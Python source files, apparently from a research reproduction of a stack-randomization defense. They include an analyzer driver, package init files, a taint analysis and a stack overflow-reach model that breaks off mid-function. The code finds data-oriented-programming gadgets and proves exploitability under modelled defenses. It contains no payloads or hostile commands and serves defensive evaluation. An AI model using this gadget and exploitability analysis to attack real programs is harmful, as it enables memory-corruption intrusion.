"""The ``repro analyze`` driver: run all analyses, render text/JSON.

One :class:`ProgramReport` per source file bundles the four analyses
(overflow reach, taint/gadget sinks, lint diagnostics, exposure scores)
plus the optional VM cross-check, as a flat list of findings with
stable, per-program identifiers:

=======  ==========================================  ============
prefix   category                                    severity
=======  ==========================================  ============
``G``    taint-to-sink gadget finding                info
``R``    deterministic overflow reach (baseline)     info
``L``    lint (uninit load / constant OOB gep)       error/warning
``X``    static-vs-VM cross-check mismatch           error
``S``    bounds-safety verdict (``--prove``)         warning/info
``E``    exploitability verdict (``--exploit``)      warning/info
=======  ==========================================  ============

With ``prove=True`` the interval bounds prover
(:mod:`repro.analysis.safety`) also runs: every non-PROVEN_SAFE slot
becomes an ``S`` finding (UNSAFE → warning, UNKNOWN → info), and any
PROVEN_SAFE slot that nevertheless appears in a possible-reach set is
an ``S`` *error* — a soundness violation that should never happen.

With ``exploit=True`` the exploitability prover
(:mod:`repro.analysis.exploit`) runs goal x defense verdicts: a
PROVABLY_EXPLOITABLE verdict under a deterministic (single-layout)
defense is a warning (the chain lands on every run), any other verdict
is informational, and ``--explain E00x`` prints the witness chain.  The
baseline verdicts are also folded into the exposure ranking via
:func:`repro.analysis.exposure.apply_exploit_verdicts`.

Identifiers are assigned in deterministic program order, so ``repro
analyze f.c --explain G003`` names the same finding on every run.
"""

from __future__ import annotations

import json
from typing import Dict, List, NamedTuple, Optional, Sequence, Tuple

from repro.analysis.crosscheck import CrosscheckResult, crosscheck_module
from repro.analysis.exposure import ExposureScore, score_function
from repro.analysis.lint import Diagnostic, lint_function
from repro.analysis.reach import (
    MODELED_DEFENSES,
    BufferReach,
    buffer_names,
    reach_under_defense,
)
from repro.analysis.taintflow import (
    SinkHit,
    TaintFlowAnalysis,
    attacker_param_indices,
)
from repro.core.pipeline import compile_source
from repro.ir.module import Module
from repro.ir.printer import format_instruction
from repro.obs.metrics import get_registry

SEVERITY_RANK = {"info": 0, "warning": 1, "error": 2}

_SINK_DESCRIPTIONS = {
    "mover": "tainted pointer at a store (data-mover / write gadget)",
    "deref": "tainted pointer at a load (dereference gadget)",
    "index": "tainted index in address computation",
    "arith": "tainted arithmetic feeding a store (arithmetic gadget)",
    "conditional": "tainted branch condition (conditional gadget)",
    "send": "tainted operand at an output builtin (send gadget)",
}


class Finding(NamedTuple):
    """One analyzer finding, CLI-facing."""

    id: str
    severity: str  # error | warning | info
    category: str
    function: str
    block: str
    message: str


class ProgramReport:
    """Everything the analyzer knows about one program."""

    def __init__(self, name: str, module: Module):
        self.name = name
        self.module = module
        self.findings: List[Finding] = []
        self.scores: List[ExposureScore] = []
        self.reach: List[BufferReach] = []
        self.crosscheck: List[CrosscheckResult] = []
        #: bounds-safety report (``--prove``), None unless requested
        self.safety = None
        #: exploitability verdicts (``--exploit``), empty unless requested
        self.exploit: List = []
        #: finding id -> material for --explain
        self._sinks: Dict[str, Tuple[TaintFlowAnalysis, SinkHit]] = {}
        self._diagnostics: Dict[str, Diagnostic] = {}
        self._reach_ids: Dict[str, BufferReach] = {}
        self._exploit_ids: Dict[str, object] = {}

    # -- queries ---------------------------------------------------------------------

    def worst_severity(self) -> str:
        worst = "info"
        for finding in self.findings:
            if SEVERITY_RANK[finding.severity] > SEVERITY_RANK[worst]:
                worst = finding.severity
        return worst

    def finding(self, finding_id: str) -> Optional[Finding]:
        for finding in self.findings:
            if finding.id == finding_id:
                return finding
        return None

    def explain(self, finding_id: str) -> Optional[str]:
        """Def-use chain / context for one finding, or None if unknown."""
        finding = self.finding(finding_id)
        if finding is None:
            return None
        lines = [f"{finding.id} [{finding.severity}] {finding.message}"]
        if finding_id in self._sinks:
            taint, sink = self._sinks[finding_id]
            lines.append("def-use chain (source -> sink):")
            for step in taint.explain_chain(sink):
                lines.append(f"  {step}")
            lines.append(f"  sink: {format_instruction(sink.instruction)}")
        elif finding_id in self._diagnostics:
            diag = self._diagnostics[finding_id]
            if diag.instruction is not None:
                lines.append(
                    f"  at: {format_instruction(diag.instruction)} "
                    f"(block {diag.block})"
                )
        elif finding_id in self._exploit_ids:
            lines.append(self._exploit_ids[finding_id].describe())
        elif finding_id in self._reach_ids:
            reach = self._reach_ids[finding_id]
            lines.append("reach under each defense (certain / possible):")
            for entry in self.reach:
                if (
                    entry.function == reach.function
                    and entry.buffer == reach.buffer
                ):
                    lines.append(
                        f"  {entry.defense:<15} "
                        f"certain={sorted(entry.certain)} "
                        f"possible={sorted(entry.possible)} "
                        f"cookie={entry.cookie_certain} "
                        f"({entry.layouts} layouts)"
                    )
        return "\n".join(lines)

    # -- serialization ---------------------------------------------------------------

    def to_dict(self) -> dict:
        return {
            "program": self.name,
            "worst_severity": self.worst_severity(),
            "findings": [f._asdict() for f in self.findings],
            "exposure": [
                {
                    "function": s.function,
                    "score": s.score,
                    "buffers": s.buffers,
                    "certain_reach_slots": s.certain_reach_slots,
                    "cookie_reachable": s.cookie_reachable,
                    "sinks": s.sink_counts,
                    "lint": s.lint_counts,
                    **(
                        {
                            "exploit_verdict": s.exploit_verdict,
                            "exploit_chain_length": s.exploit_chain_length,
                            "adjusted_score": s.adjusted_score,
                        }
                        if s.exploit_verdict is not None
                        else {}
                    ),
                }
                for s in self.scores
            ],
            "reach": [
                {
                    "function": r.function,
                    "buffer": r.buffer,
                    "defense": r.defense,
                    "certain": sorted(r.certain),
                    "possible": sorted(r.possible),
                    "cookie_certain": r.cookie_certain,
                    "layouts": r.layouts,
                }
                for r in self.reach
            ],
            "crosscheck": {
                "probes": len(self.crosscheck),
                "mismatches": [
                    c.describe() for c in self.crosscheck if not c.ok
                ],
            },
            **(
                {"safety": self.safety.to_dict()}
                if self.safety is not None
                else {}
            ),
            **(
                {"exploit": [v.to_dict() for v in self.exploit]}
                if self.exploit
                else {}
            ),
        }

    def format_text(self, verbose: bool = False) -> str:
        lines = [f"== {self.name} =="]
        counts: Dict[str, int] = {}
        for finding in self.findings:
            counts[finding.severity] = counts.get(finding.severity, 0) + 1
        summary = (
            ", ".join(f"{k}={v}" for k, v in sorted(counts.items()))
            or "clean"
        )
        lines.append(f"findings: {summary}")
        for finding in self.findings:
            if finding.severity == "info" and not verbose:
                continue
            lines.append(
                f"  {finding.id} [{finding.severity}] "
                f"{finding.function}:{finding.block}: {finding.message}"
            )
        lines.append("exposure (highest first):")
        for score in self.scores:
            lines.append(f"  {score.describe()}")
        if self.crosscheck:
            bad = [c for c in self.crosscheck if not c.ok]
            lines.append(
                f"vm cross-check: {len(self.crosscheck)} probes, "
                f"{len(bad)} mismatches"
            )
            for mismatch in bad:
                lines.append(f"  {mismatch.describe()}")
        if self.safety is not None:
            counts = self.safety.counts()
            proven = self.safety.proven_functions()
            lines.append(
                "safety proofs: "
                + ", ".join(f"{k}={v}" for k, v in sorted(counts.items()))
                + f"; fully proven functions: {sorted(proven) or 'none'}"
            )
        if self.exploit:
            tally: Dict[str, int] = {}
            for entry in self.exploit:
                tally[entry.verdict] = tally.get(entry.verdict, 0) + 1
            lines.append(
                "exploitability verdicts: "
                + ", ".join(f"{k}={v}" for k, v in sorted(tally.items()))
            )
            for entry in self.exploit:
                chain = (
                    f" (chain length {entry.witness.length})"
                    if entry.witness is not None
                    else ""
                )
                lines.append(
                    f"  {entry.verdict:<20} [{entry.defense}] "
                    f"{entry.goal}{chain}"
                )
        return "\n".join(lines)


def analyze_program(
    source: str,
    name: str = "<source>",
    *,
    opt_level: int = 0,
    defenses: Sequence[str] = MODELED_DEFENSES,
    samples: int = 64,
    crosscheck: bool = False,
    prove: bool = False,
    exploit: bool = False,
    exploit_goal: Optional[str] = None,
    exploit_defenses: Optional[Sequence[str]] = None,
    module=None,
) -> ProgramReport:
    """Compile ``source`` and run the full analyzer over it.

    ``module`` lets a caller that already compiled the source (the serve
    worker's per-process module cache) skip the front end; analysis
    never mutates the module, so a cached one is safe to share.
    """
    if module is None:
        module = compile_source(source, opt_level=opt_level)
    report = ProgramReport(name, module)
    counters = {"G": 0, "R": 0, "L": 0, "X": 0, "S": 0, "E": 0}
    param_map = attacker_param_indices(module)

    def next_id(prefix: str) -> str:
        counters[prefix] += 1
        return f"{prefix}{counters[prefix]:03d}"

    for function in module.functions.values():
        taint = TaintFlowAnalysis(
            function, module, tainted_params=param_map.get(function.name, ())
        )
        diagnostics = lint_function(function)
        for sink in taint.sinks:
            finding_id = next_id("G")
            description = _SINK_DESCRIPTIONS.get(sink.kind, sink.kind)
            report.findings.append(
                Finding(
                    finding_id,
                    "info",
                    f"gadget-{sink.kind}",
                    sink.function,
                    sink.block,
                    description,
                )
            )
            report._sinks[finding_id] = (taint, sink)
        for diag in diagnostics:
            finding_id = next_id("L")
            report.findings.append(
                Finding(
                    finding_id,
                    diag.severity,
                    diag.category,
                    diag.function,
                    diag.block,
                    diag.message,
                )
            )
            report._diagnostics[finding_id] = diag
        for buffer in buffer_names(function):
            per_defense = [
                reach_under_defense(
                    function, buffer, defense, samples=samples
                )
                for defense in defenses
            ]
            report.reach.extend(per_defense)
            baseline = next(
                (r for r in per_defense if r.defense == "none"), None
            )
            if baseline is not None and (
                baseline.certain or baseline.cookie_certain
            ):
                finding_id = next_id("R")
                targets = sorted(baseline.certain)
                if baseline.cookie_certain:
                    targets.append("<return-cookie>")
                report.findings.append(
                    Finding(
                        finding_id,
                        "info",
                        "overflow-reach",
                        function.name,
                        "entry",
                        f"linear overflow from '{buffer}' deterministically "
                        f"reaches {targets} under baseline layout",
                    )
                )
                report._reach_ids[finding_id] = baseline
        report.scores.append(
            score_function(
                function, module, taint=taint, diagnostics=diagnostics
            )
        )
    report.scores.sort(key=lambda s: (-s.score, s.function))

    if crosscheck:
        report.crosscheck = crosscheck_module(module)
        for probe in report.crosscheck:
            if not probe.ok:
                report.findings.append(
                    Finding(
                        next_id("X"),
                        "error",
                        "crosscheck-mismatch",
                        probe.function,
                        "entry",
                        probe.describe(),
                    )
                )

    if prove:
        from repro.analysis.safety import (
            PROVEN_SAFE,
            UNSAFE,
            analyze_module_safety,
            proven_reach_conflicts,
        )

        report.safety = analyze_module_safety(module)
        for safety in report.safety.functions.values():
            for record in safety.slots:
                if record.verdict == PROVEN_SAFE:
                    continue
                severity = "warning" if record.verdict == UNSAFE else "info"
                bound = (
                    "unbounded"
                    if record.write_bound is None
                    else f"{record.write_bound}B"
                )
                reason = record.reasons[0] if record.reasons else "no proof"
                report.findings.append(
                    Finding(
                        next_id("S"),
                        severity,
                        f"safety-{record.verdict.lower()}",
                        safety.name,
                        "entry",
                        f"slot '{record.slot}' ({record.size}B, max write "
                        f"{bound}) is {record.verdict}: {reason}",
                    )
                )
        for conflict in proven_reach_conflicts(module, report.safety):
            report.findings.append(
                Finding(
                    next_id("S"),
                    "error",
                    "safety-soundness",
                    "<module>",
                    "entry",
                    f"PROVEN_SAFE slot inside a possible-reach set: "
                    f"{conflict}",
                )
            )

    if exploit:
        # Lazy: exploit.py builds on repro.synth, which imports back into
        # repro.analysis submodules (same cycle the package __getattr__
        # breaks).
        from repro.analysis.exploit import (
            DETERMINISTIC_DEFENSES,
            EXPLOITABLE,
            ExploitProver,
            default_goals,
        )
        from repro.synth.facts import ProgramFacts
        from repro.synth.goals import parse_goal

        facts = ProgramFacts(source, name)
        prover = ExploitProver(facts)
        goals = (
            [parse_goal(exploit_goal)]
            if exploit_goal is not None
            else default_goals(facts)
        )
        chosen = tuple(
            exploit_defenses if exploit_defenses else MODELED_DEFENSES
        )
        by_function: Dict[str, List] = {}
        for goal in goals:
            for defense in chosen:
                entry = prover.prove(goal, defense)
                report.exploit.append(entry)
                if entry.verdict == EXPLOITABLE:
                    severity = (
                        "warning"
                        if defense in DETERMINISTIC_DEFENSES
                        else "info"
                    )
                    message = (
                        f"goal '{entry.goal}' is {entry.verdict} under "
                        f"'{defense}'"
                    )
                    if entry.witness is not None:
                        message += (
                            f" (witness chain: {entry.witness.length} writes)"
                        )
                else:
                    severity = "info"
                    message = (
                        f"goal '{entry.goal}' is {entry.verdict} under "
                        f"'{defense}': {entry.reason}"
                    )
                function = getattr(goal, "function", "") or "<module>"
                finding_id = next_id("E")
                report.findings.append(
                    Finding(
                        finding_id,
                        severity,
                        f"exploit-{entry.verdict.lower().replace('_', '-')}",
                        function,
                        "entry",
                        message,
                    )
                )
                report._exploit_ids[finding_id] = entry
                if defense == "none" and function != "<module>":
                    by_function.setdefault(function, []).append(entry)
        if by_function:
            from repro.analysis.exposure import apply_exploit_verdicts

            report.scores = apply_exploit_verdicts(
                report.scores, by_function
            )

    registry = get_registry()
    registry.counter("analysis_programs_total").inc()
    for finding in report.findings:
        registry.counter(
            "analysis_findings_total",
            severity=finding.severity,
            category=finding.category,
        ).inc()
    return report


def reports_to_json(reports: Sequence[ProgramReport]) -> str:
    return json.dumps(
        {"reports": [report.to_dict() for report in reports]},
        indent=2,
        sort_keys=True,
    )


def exit_status(
    reports: Sequence[ProgramReport], fail_on: str = "error"
) -> int:
    """0 when every report is below the ``fail_on`` severity bar."""
    if fail_on == "never":
        return 0
    bar = SEVERITY_RANK[fail_on]
    for report in reports:
        if SEVERITY_RANK[report.worst_severity()] >= bar:
            return 1
    return 0
