"""Static analyses: attacker-influence taint, DOP gadget discovery,
per-function randomization entropy reporting, and the ``repro analyze``
layer — a dataflow framework (worklist solver, pluggable lattices,
widening for infinite-height domains) with overflow-reach, input-taint,
interval bounds-safety proofs, lint, and DOP-exposure analyses on top,
cross-checked against the VM.
"""

from repro.analysis.crosscheck import (
    CrosscheckResult,
    SafetyProbe,
    crosscheck_function,
    crosscheck_module,
    crosscheck_safety,
)
from repro.analysis.dataflow import (
    AnalysisError,
    DataflowResult,
    ForwardProblem,
    IntersectLattice,
    Lattice,
    UnionLattice,
    solve_forward,
)
from repro.analysis.driver import (
    Finding,
    ProgramReport,
    analyze_program,
    exit_status,
    reports_to_json,
)
from repro.analysis.entropy import (
    FunctionEntropy,
    entropy_report,
    minimum_entropy_bits,
    render_entropy_report,
)
from repro.analysis.exposure import (
    ExposureScore,
    apply_exploit_verdicts,
    score_function,
    score_module,
)
from repro.analysis.gadgets import (
    Dispatcher,
    Gadget,
    GadgetReport,
    analyze_module,
    find_dispatchers,
    find_gadgets,
)
from repro.analysis.lint import Diagnostic, lint_function, lint_module
from repro.analysis.reach import (
    MODELED_DEFENSES,
    BufferReach,
    FrameLayout,
    Slot,
    analyze_module_reach,
    baseline_layout,
    buffer_names,
    defense_layouts,
    frame_height,
    overflow_reach,
    reach_under_defense,
    stacked_layout,
)
from repro.analysis.intervals import (
    Interval,
    IntervalAnalysis,
    IntervalEnvLattice,
)
from repro.analysis.safety import (
    PROVEN_SAFE,
    UNKNOWN,
    UNSAFE,
    SafetyReport,
    analyze_module_safety,
    proven_reach_conflicts,
)
from repro.analysis.taintflow import (
    SinkHit,
    TaintAnalysis,
    TaintFlowAnalysis,
    analyze_taint_flow,
    attacker_param_indices,
)

# exploit.py closes the analysis <-> synth cycle (it builds on
# repro.synth.planner, which itself imports repro.analysis submodules),
# so its exports resolve lazily: importing them eagerly here would
# re-enter repro.synth while that package is still initializing.
_EXPLOIT_EXPORTS = frozenset(
    {
        "DETERMINISTIC_DEFENSES",
        "EXPLOITABLE",
        "ROBUST",
        "UNDECIDED",
        "ExploitProver",
        "ExploitVerdict",
        "GadgetGraph",
        "WitnessChain",
        "build_gadget_graph",
        "default_goals",
        "prove_program",
    }
)


def __getattr__(name):
    if name in _EXPLOIT_EXPORTS:
        from repro.analysis import exploit

        value = getattr(exploit, name)
        globals()[name] = value
        return value
    raise AttributeError(f"module 'repro.analysis' has no attribute '{name}'")


__all__ = [
    "DETERMINISTIC_DEFENSES",
    "EXPLOITABLE",
    "ExploitProver",
    "ExploitVerdict",
    "GadgetGraph",
    "ROBUST",
    "UNDECIDED",
    "WitnessChain",
    "build_gadget_graph",
    "default_goals",
    "prove_program",
    "AnalysisError",
    "BufferReach",
    "CrosscheckResult",
    "DataflowResult",
    "Diagnostic",
    "Dispatcher",
    "ExposureScore",
    "Finding",
    "ForwardProblem",
    "FrameLayout",
    "FunctionEntropy",
    "Gadget",
    "GadgetReport",
    "IntersectLattice",
    "Interval",
    "IntervalAnalysis",
    "IntervalEnvLattice",
    "Lattice",
    "MODELED_DEFENSES",
    "PROVEN_SAFE",
    "ProgramReport",
    "SafetyProbe",
    "SafetyReport",
    "SinkHit",
    "Slot",
    "TaintAnalysis",
    "TaintFlowAnalysis",
    "UNKNOWN",
    "UNSAFE",
    "UnionLattice",
    "analyze_module",
    "analyze_module_reach",
    "analyze_module_safety",
    "analyze_program",
    "analyze_taint_flow",
    "apply_exploit_verdicts",
    "attacker_param_indices",
    "baseline_layout",
    "buffer_names",
    "crosscheck_function",
    "crosscheck_module",
    "crosscheck_safety",
    "defense_layouts",
    "entropy_report",
    "exit_status",
    "find_dispatchers",
    "find_gadgets",
    "lint_function",
    "lint_module",
    "minimum_entropy_bits",
    "overflow_reach",
    "proven_reach_conflicts",
    "reach_under_defense",
    "render_entropy_report",
    "reports_to_json",
    "score_function",
    "score_module",
    "frame_height",
    "solve_forward",
    "stacked_layout",
]
