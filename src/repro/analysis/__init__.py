"""Static analyses: attacker-influence taint, DOP gadget discovery, and
per-function randomization entropy reporting.
"""

from repro.analysis.entropy import (
    FunctionEntropy,
    entropy_report,
    minimum_entropy_bits,
    render_entropy_report,
)
from repro.analysis.gadgets import (
    Dispatcher,
    Gadget,
    GadgetReport,
    analyze_module,
    find_dispatchers,
    find_gadgets,
)
from repro.analysis.taint import TaintAnalysis

__all__ = [
    "Dispatcher",
    "FunctionEntropy",
    "Gadget",
    "GadgetReport",
    "TaintAnalysis",
    "analyze_module",
    "entropy_report",
    "find_dispatchers",
    "find_gadgets",
    "minimum_entropy_bits",
    "render_entropy_report",
]
