"""Static analyses: attacker-influence taint, DOP gadget discovery,
per-function randomization entropy reporting, and the ``repro analyze``
layer — a dataflow framework (worklist solver, pluggable lattices) with
overflow-reach, input-taint, lint, and DOP-exposure analyses on top,
cross-checked against the VM.
"""

from repro.analysis.crosscheck import (
    CrosscheckResult,
    crosscheck_function,
    crosscheck_module,
)
from repro.analysis.dataflow import (
    AnalysisError,
    DataflowResult,
    ForwardProblem,
    IntersectLattice,
    Lattice,
    UnionLattice,
    solve_forward,
)
from repro.analysis.driver import (
    Finding,
    ProgramReport,
    analyze_program,
    exit_status,
    reports_to_json,
)
from repro.analysis.entropy import (
    FunctionEntropy,
    entropy_report,
    minimum_entropy_bits,
    render_entropy_report,
)
from repro.analysis.exposure import ExposureScore, score_function, score_module
from repro.analysis.gadgets import (
    Dispatcher,
    Gadget,
    GadgetReport,
    analyze_module,
    find_dispatchers,
    find_gadgets,
)
from repro.analysis.lint import Diagnostic, lint_function, lint_module
from repro.analysis.reach import (
    MODELED_DEFENSES,
    BufferReach,
    FrameLayout,
    Slot,
    analyze_module_reach,
    baseline_layout,
    buffer_names,
    defense_layouts,
    frame_height,
    overflow_reach,
    reach_under_defense,
    stacked_layout,
)
from repro.analysis.taint import TaintAnalysis
from repro.analysis.taintflow import (
    SinkHit,
    TaintFlowAnalysis,
    analyze_taint_flow,
    attacker_param_indices,
)

__all__ = [
    "AnalysisError",
    "BufferReach",
    "CrosscheckResult",
    "DataflowResult",
    "Diagnostic",
    "Dispatcher",
    "ExposureScore",
    "Finding",
    "ForwardProblem",
    "FrameLayout",
    "FunctionEntropy",
    "Gadget",
    "GadgetReport",
    "IntersectLattice",
    "Lattice",
    "MODELED_DEFENSES",
    "ProgramReport",
    "SinkHit",
    "Slot",
    "TaintAnalysis",
    "TaintFlowAnalysis",
    "UnionLattice",
    "analyze_module",
    "analyze_module_reach",
    "analyze_program",
    "analyze_taint_flow",
    "attacker_param_indices",
    "baseline_layout",
    "buffer_names",
    "crosscheck_function",
    "crosscheck_module",
    "defense_layouts",
    "entropy_report",
    "exit_status",
    "find_dispatchers",
    "find_gadgets",
    "lint_function",
    "lint_module",
    "minimum_entropy_bits",
    "overflow_reach",
    "reach_under_defense",
    "render_entropy_report",
    "reports_to_json",
    "score_function",
    "score_module",
    "frame_height",
    "solve_forward",
    "stacked_layout",
]
