"""Attacker-influence ("taint") analysis over IR.

The DOP threat model lets the attacker overwrite stack-resident data
(paper §III-B: full read/write of writable data memory, with the stack
the primary vector).  This analysis computes, per function, the set of
SSA values that *could* be attacker-controlled under that model:

* seed: every ``load`` whose address is (derived from) a stack slot or a
  writable global — the attacker may have replaced those bytes;
* propagation: arithmetic, casts, selects, phis and address computations
  of controlled values are controlled.

The gadget finder (`repro.analysis.gadgets`) classifies instructions by
which of their operands are controlled — exactly the discovery step the
paper performed by "static analysis of the binary" when building its
librelp exploit (§II-C).
"""

from __future__ import annotations

from typing import Set

from repro.ir.instructions import (
    Alloca,
    BinOp,
    Call,
    Cast,
    Cmp,
    ElemPtr,
    FieldPtr,
    Instruction,
    Load,
    Phi,
    Select,
)
from repro.ir.module import Function
from repro.ir.values import GlobalVariable, Value


def _is_memory_root(value: Value) -> bool:
    """Does this value denote writable memory the attacker may corrupt?"""
    if isinstance(value, Alloca):
        return True
    if isinstance(value, GlobalVariable):
        return not value.readonly
    return False


def _address_reaches_writable(value: Value, depth: int = 0) -> bool:
    """Conservatively: does this pointer point into corruptible memory?"""
    if depth > 32:
        return True
    if _is_memory_root(value):
        return True
    if isinstance(value, (ElemPtr, FieldPtr)):
        return _address_reaches_writable(value.operands[0], depth + 1)
    if isinstance(value, Cast):
        return _address_reaches_writable(value.operands[0], depth + 1)
    if isinstance(value, (Load, Call, Phi, Select)):
        # Pointer produced at runtime (loaded, returned, merged): assume
        # it can point at corruptible memory.
        return True
    return False


class TaintAnalysis:
    """Fixed-point attacker-influence analysis for one function."""

    def __init__(self, function: Function):
        self.function = function
        self.controlled: Set[Instruction] = set()
        self._run()

    def _run(self) -> None:
        changed = True
        while changed:
            changed = False
            for inst in self.function.instructions():
                if inst in self.controlled:
                    continue
                if self._becomes_controlled(inst):
                    self.controlled.add(inst)
                    changed = True

    def _becomes_controlled(self, inst: Instruction) -> bool:
        if isinstance(inst, Load):
            # Reading corruptible memory yields attacker data.
            pointer = inst.pointer
            if _address_reaches_writable(pointer):
                return True
            return self.is_controlled(pointer)
        if isinstance(inst, (BinOp, Cmp, Cast, Select, ElemPtr, FieldPtr)):
            return any(self.is_controlled(op) for op in inst.operands)
        if isinstance(inst, Phi):
            return any(self.is_controlled(value) for value, _ in inst.incomings)
        if isinstance(inst, Call):
            # Input builtins return attacker bytes; other calls may launder
            # controlled arguments through return values.
            name = inst.callee_name()
            if name.startswith("input_"):
                return True
            return any(self.is_controlled(op) for op in inst.operands)
        return False

    def is_controlled(self, value: Value) -> bool:
        """Is ``value`` (possibly) attacker-controlled?"""
        if isinstance(value, Instruction):
            return value in self.controlled
        return False
