"""Stack-layout overflow-reach analysis (symbolic, no execution).

For every ``alloca``'d buffer this module answers the question the DOP
attacker asks first: *which sibling slots does a linear overflow from
this buffer corrupt?* — under the baseline layout and under each
registered defense's family of layouts.

The frame model mirrors :meth:`repro.vm.interpreter.Machine._push_frame`
byte for byte, in frame-top-relative coordinates (frame top = 0, slots
at negative offsets, the return cookie at ``[-8, 0)``, the optional
canary directly below it).  An overflow writes *toward higher
addresses*: ``length`` bytes from the buffer's base corrupt every slot
overlapping ``[buffer.lo, buffer.lo + length)``, then the cookie, then
the caller's frame.

Defenses are modelled by the *set of layouts* they can deploy:

====================  ===========================================
``none`` / ``aslr``   one layout (ASLR shifts the base, not the
                      intra-frame distances)
``canary``            one layout, canary slot below the cookie
``padding``           8 layouts — one per Forrest pad choice
``static-permute``    sampled permutations of the declaration order
``cleanstack``        clean slots fixed in place; unclean slots
                      relocated as a block to the unclean stack at a
                      sampled load-time displacement
``shadowstack``       one layout — return-address isolation moves the
                      metadata band, not the data slots
``smokestack``        the function's own permutation-table rows
                      inside the unified frame (plus fnid slot)
====================  ===========================================

``certain`` facts hold in *every* layout of the family (what a blind,
single-shot DOP exploit can rely on); ``possible`` facts hold in at
least one (what a brute-forcing attacker can eventually hit).  The
paper's claim, restated in these terms: Smokestack shrinks ``certain``
to (near) nothing while prior schemes leave it intact.
"""

from __future__ import annotations

import random
from typing import Dict, FrozenSet, List, NamedTuple, Optional, Sequence, Tuple

from repro.core.allocations import StackAllocation, discover_function
from repro.core.config import SmokestackConfig
from repro.core.instrument import FNID_SLOT_NAME
from repro.core.permutation import generate_table
from repro.defenses.padding import MIN_FRAME_SIZE, PAD_CHOICES, PAD_SLOT_NAME
from repro.ir.module import Function, Module

#: Defense families the symbolic model understands.
MODELED_DEFENSES = (
    "none",
    "canary",
    "aslr",
    "padding",
    "static-permute",
    "cleanstack",
    "shadowstack",
    "smokestack",
)

COOKIE = "<return-cookie>"
CANARY = "<canary>"
CALLER = "<caller-frame>"


def _align_down(value: int, alignment: int) -> int:
    return value & ~(alignment - 1)


class Slot(NamedTuple):
    """One stack object in one concrete layout."""

    name: str
    lo: int  # frame-top-relative byte offset of the slot's lowest byte
    size: int

    @property
    def hi(self) -> int:
        return self.lo + self.size

    @property
    def synthetic(self) -> bool:
        return self.name.startswith("__")


class FrameLayout(NamedTuple):
    """One concrete frame layout in frame-top-relative coordinates."""

    function: str
    slots: Tuple[Slot, ...]
    has_canary: bool

    def slot(self, name: str) -> Slot:
        for slot in self.slots:
            if slot.name == name:
                return slot
        raise KeyError(f"no slot '{name}' in frame of '{self.function}'")

    def named_slots(self) -> Tuple[Slot, ...]:
        return tuple(s for s in self.slots if not s.synthetic)


class ReachSet(NamedTuple):
    """What one overflow corrupts in one concrete layout."""

    corrupted: FrozenSet[str]  # non-synthetic sibling slot names
    cookie: bool
    canary: bool
    escapes: bool  # writes past the frame top into the caller


class BufferReach(NamedTuple):
    """Reach summary of one buffer under one defense's layout family."""

    function: str
    buffer: str
    defense: str
    certain: FrozenSet[str]  # corrupted in every layout
    possible: FrozenSet[str]  # corrupted in at least one layout
    cookie_certain: bool
    layouts: int


def unique_slot_names(
    allocations: Sequence[StackAllocation],
) -> Dict[int, str]:
    """id(allocation) -> unique slot name.

    Source scopes let the same variable name appear twice in a frame
    (``for (int i...)`` twice); slot names must stay unique so reach
    sets and layout diffs can be keyed by name.  Later duplicates get a
    stable ``@N`` suffix based on *descriptor* (declaration) order, so
    the same allocation keeps the same name across permuted layouts.
    """
    counts: Dict[str, int] = {}
    names: Dict[int, str] = {}
    for allocation in allocations:
        counts[allocation.name] = counts.get(allocation.name, 0) + 1
        occurrence = counts[allocation.name]
        names[id(allocation)] = (
            allocation.name
            if occurrence == 1
            else f"{allocation.name}@{occurrence}"
        )
    return names


def allocation_slots(
    allocations: Sequence[StackAllocation],
    *,
    canary: bool,
    names: Optional[Dict[int, str]] = None,
) -> Tuple[Slot, ...]:
    """Lay ``allocations`` out in the given order, exactly as the VM does.

    The cursor starts below the 8-byte return cookie (and the canary, if
    present) and moves down: ``cursor -= size; align_down(cursor, align)``.
    Frame-top-relative offsets equal absolute ones for alignments up to
    the 16-byte frame-top alignment, so the model is exact.  ``names``
    (from :func:`unique_slot_names`, usually over the declaration order)
    overrides the per-slot display names.
    """
    if names is None:
        names = unique_slot_names(allocations)
    cursor = -8
    if canary:
        cursor -= 8
    slots: List[Slot] = []
    for allocation in allocations:
        cursor -= allocation.size
        cursor = _align_down(cursor, allocation.align)
        slots.append(Slot(names[id(allocation)], cursor, allocation.size))
    return tuple(slots)


def baseline_layout(function: Function, *, canary: bool = False) -> FrameLayout:
    """Declaration-order layout — what the attacker's static analysis sees."""
    descriptor = discover_function(function)
    return FrameLayout(
        function.name,
        allocation_slots(descriptor.allocations, canary=canary),
        has_canary=canary,
    )


def overflow_reach(
    layout: FrameLayout, buffer: str, length: int
) -> ReachSet:
    """Corruption of a ``length``-byte linear overflow from ``buffer``."""
    base = layout.slot(buffer)
    end = base.lo + length
    corrupted = frozenset(
        slot.name
        for slot in layout.slots
        if slot.name != buffer
        and not slot.synthetic
        and slot.lo < end
        and slot.hi > base.lo
    )
    canary_hit = layout.has_canary and end > -16
    return ReachSet(
        corrupted=corrupted,
        cookie=end > -8,
        canary=canary_hit,
        escapes=end > 0,
    )


def intra_frame_reach(layout: FrameLayout, buffer: str) -> ReachSet:
    """Reach of the longest overflow that stays inside this frame."""
    base = layout.slot(buffer)
    return overflow_reach(layout, buffer, -base.lo)


def frame_height(layout: FrameLayout) -> int:
    """Bytes from the frame base (16-aligned) to the frame top."""
    lowest = min(
        [slot.lo for slot in layout.slots]
        + [-16 if layout.has_canary else -8]
    )
    return -_align_down(lowest, 16)


def stacked_layout(
    caller: Function,
    victim: Function,
    *,
    canary: bool = False,
    prefix: Optional[str] = None,
) -> FrameLayout:
    """Two-frame layout: ``victim``'s frame directly below ``caller``'s.

    The VM pushes the callee's frame at the caller's frame base (both
    16-aligned), so in victim-frame-top coordinates the caller's slots
    sit at ``slot.lo + height(caller frame)``.  This is the layout an
    *inter-frame* overflow weaponizes — the librelp and ProFTPD attacks
    corrupt the caller's locals this way — and caller slots are
    prefixed (``"<caller>:"`` by default) so the combined name space
    stays unambiguous.  The victim's return cookie still sits at
    ``[-8, 0)``; the caller's own cookie is not modelled (corrupting it
    only matters after the caller returns).
    """
    caller_frame = baseline_layout(caller, canary=canary)
    victim_frame = baseline_layout(victim, canary=canary)
    height = frame_height(caller_frame)
    tag = prefix if prefix is not None else f"{caller.name}:"
    slots = victim_frame.slots + tuple(
        Slot(tag + slot.name, slot.lo + height, slot.size)
        for slot in caller_frame.slots
    )
    return FrameLayout(victim.name, slots, has_canary=canary)


def buffer_names(function: Function) -> List[str]:
    """Source-named array locals — the overflowable objects.

    Names match the slot names of :func:`baseline_layout` (duplicate
    declarations carry their ``@N`` suffix).
    """
    descriptor = discover_function(function)
